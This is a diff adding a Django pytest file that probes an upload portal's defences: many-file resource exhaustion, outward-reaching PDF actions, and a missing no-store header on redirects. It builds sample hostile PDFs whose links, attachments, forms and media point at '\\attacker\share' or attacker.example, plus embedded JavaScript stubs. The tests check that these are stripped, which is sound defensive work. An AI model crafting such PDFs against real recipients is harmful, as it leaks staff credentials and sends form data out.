@@ -1,0 +1,145 @@
+"""Holes found by probing the upload defences as an attacker would (issue 13, items 4, 5 and 9).
+
+Each test names the rule the portal states and shows, with the file or request that breaks it,
+that the rule does not hold yet.
+"""
+
+import io
+import time
+import tracemalloc
+
+import pytest
+import time_machine
+from django.urls import reverse
+
+from documents.models import PieceFile
+from documents.uploads import COMBINE_MAX_PHOTOS, UploadRejected, inspect_upload, prepare_uploads
+from tests.documents.files import _raw_pdf, _stream, huge_png, image_bytes, pdf_of_exactly, upload
+from tests.factories import paris
+
+pytestmark = pytest.mark.django_db
+
+OPEN = paris(2023, 11, 1, 10)
+CPU_TARGET_SECONDS = 2
+
+
+def post(client, registration, files, **data):
+    with time_machine.travel(OPEN, tick=False):
+        return client.post(reverse("documents:upload", args=[registration.pk, "identity"]), {"files": files, **data},
+                           HTTP_X_REQUESTED_WITH="XMLHttpRequest")
+
+
+# Item 4: the bounds hold per file, not per request. Django lets a request carry 100 files
+# (DATA_UPLOAD_MAX_NUMBER_FILES), and each one is judged in turn: 100 PNGs of 24 Mpx (68 KB each,
+# a 6.6 MB request) cost one gunicorn worker 17.8 s of CPU; 20 PDFs of 10 MB with a script cost it
+# 399 MB, because every cleaned copy is held in memory until the last file is judged.
+
+def test_one_upload_judges_at_most_as_many_files_as_can_be_assembled(logged_in, registration):
+    files = [upload(f"page-{n}.png", image_bytes("PNG", (20, 20))) for n in range(COMBINE_MAX_PHOTOS + 1)]
+    response = post(logged_in, registration, files)
+    assert response.status_code == 400
+    assert PieceFile.objects.count() == 0
+
+
+def test_assembling_the_most_photos_allowed_stays_within_the_cpu_target():
+    # Each PNG at the 24 Mpx limit is decoded whole twice (judged, then assembled): 0.35 s a photo.
+    photo = huge_png(4800, 5000)
+    uploads = [upload(f"page-{n}.png", photo) for n in range(COMBINE_MAX_PHOTOS)]
+    start = time.process_time()
+    try:
+        prepare_uploads(uploads, combine=True)
+    except UploadRejected:
+        pass  # refusing such a request up front is a fix too
+    assert time.process_time() - start < CPU_TARGET_SECONDS
+
+
+def _pdf_with_script(size):
+    """A scan-like PDF of about `size` bytes that runs a script when opened."""
+    from pypdf import PdfReader, PdfWriter
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_of_exactly(size))))
+    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
+        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1);")})
+    output = io.BytesIO()
+    writer.write(output)
+    return output.getvalue()
+
+
+def _peak_bytes_of_judging(count, content):
+    uploads = [upload(f"scan-{n}.pdf", content) for n in range(count)]
+    tracemalloc.start()
+    try:
+        prepare_uploads(uploads)
+    except UploadRejected:
+        pass  # refusing so many files is a fix too: then nothing is held at all
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    return peak
+
+
+def test_judging_the_files_of_one_upload_holds_at_most_one_cleaned_copy_in_memory():
+    content = _pdf_with_script(2 * 1024 * 1024)
+    one, several = _peak_bytes_of_judging(1, content), _peak_bytes_of_judging(6, content)
+    # Five more copies of 2 MB each would add 10 MB; a copy spooled to disk adds nothing.
+    assert several - one < 3 * 1024 * 1024, f"1 file: {one / 2**20:.0f} MB, 6 files: {several / 2**20:.0f} MB"
+
+
+# Item 5: actions that reach outside the document are kept as sent. Acrobat follows them when
+# staff click a link or a button: /GoToR, /ImportData and a file attachment reach a UNC path
+# (\\attacker\share: the staff member's Windows credentials are sent to it); /SubmitForm posts the
+# form to any server; a javascript: URI; a 3D annotation carries its own script (/OnInstantiate);
+# /Rendition and /Movie play media from outside the file.
+
+PAGE_TREE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+RECT = b"/Rect [50 50 200 100]"
+
+
+def _pdf_with_annotation(annotation, *more):
+    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGE_TREE,
+                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>", annotation, *more])
+
+
+def _link(action):
+    return _pdf_with_annotation(b"<< /Type /Annot /Subtype /Link " + RECT + b" /A " + action + b" >>")
+
+
+OUTWARD = {
+    "gotor": (_link(b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>"), b"/GoToR"),
+    "importdata": (_link(b"<< /S /ImportData /F (\\\\\\\\attacker\\\\share\\\\x.fdf) >>"), b"/ImportData"),
+    "submitform": (_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>"), b"/SubmitForm"),
+    "javascript-uri": (_link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"), b"javascript:"),
+    "file-attachment": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /FileAttachment " + RECT
+                                             + b" /FS << /Type /Filespec /F (\\\\\\\\attacker\\\\share\\\\x.exe) >> >>"), b"attacker"),
+    "3d-script": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /3D " + RECT + b" /3DD 5 0 R /3DA << /A /PO >> >>",
+                                       _stream(b"U3D", b"/Type /3D /Subtype /U3D /OnInstantiate 6 0 R"), _stream(b"app.alert(1)")),
+                  b"/OnInstantiate"),
+    "rendition": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /Screen " + RECT + b" /A << /S /Rendition /OP 0 /R << /S /MR "
+                                       b"/C << /S /MCD /D << /Type /Filespec /FS /URL /F (https://attacker.example/m.mp4) >> >> >> >> >>"),
+                  b"/Rendition"),
+    "movie": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /Movie " + RECT + b" /Movie << /F (\\\\\\\\attacker\\\\share\\\\m.mov) >> >>"),
+              b"attacker"),
+}
+
+
+@pytest.mark.parametrize("kind", OUTWARD)
+def test_an_action_that_reaches_outside_the_document_is_not_kept(kind):
+    sent, trace = OUTWARD[kind]
+    assert trace in sent
+    try:
+        inspection = inspect_upload(upload("formulaire.pdf", sent))
+    except UploadRejected:
+        return  # refused: nothing reaches staff either
+    stored = inspection.cleaned.read() if inspection.cleaned else sent
+    assert trace not in stored
+
+
+# Item 9: `Cache-Control: private, no-store` on every answer to a candidate. CommonMiddleware
+# answers a URL without its final slash with a permanent redirect before AuthenticationMiddleware
+# runs, so PrivateNoStoreMiddleware (below it) never sees that answer: a 301, which browsers and
+# proxies keep without a Cache-Control.
+
+def test_the_redirect_to_a_candidates_page_with_its_final_slash_is_not_stored(logged_in, registration):
+    response = logged_in.get(reverse("documents:pieces", args=[registration.pk]).rstrip("/"))
+    assert response.status_code == 301
+    assert "no-store" in response.get("Cache-Control", "")
